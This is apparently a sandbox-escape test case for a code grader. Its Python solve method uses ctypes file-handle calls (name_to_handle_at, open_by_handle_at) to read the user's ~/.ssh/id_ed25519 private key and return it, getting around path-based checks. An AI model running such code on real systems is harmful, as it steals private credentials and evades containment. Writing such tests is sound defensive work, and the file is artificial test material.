# Opens it by a handle instead of a path.
# entry: Solution.solve(n: int, home: str) -> str
# verdict: WA|RTE
# needs: files
# unharmed: secret

import ctypes, os


class Solution:
    def solve(self, n: int, home: str):
        libc = ctypes.CDLL(None)


        class Handle(ctypes.Structure):
            _fields_ = [("size", ctypes.c_uint), ("kind", ctypes.c_int), ("bytes", ctypes.c_char * 128)]


        handle, mount = Handle(128), ctypes.c_int()
        libc.name_to_handle_at(-100, (home + "/.ssh/id_ed25519").encode(), ctypes.byref(handle), ctypes.byref(mount), 0)
        at = libc.open(home.encode(), 0)
        fd = libc.open_by_handle_at(at, ctypes.byref(handle), 0)
        return os.read(fd, 4096).decode() if fd >= 0 else "nothing"
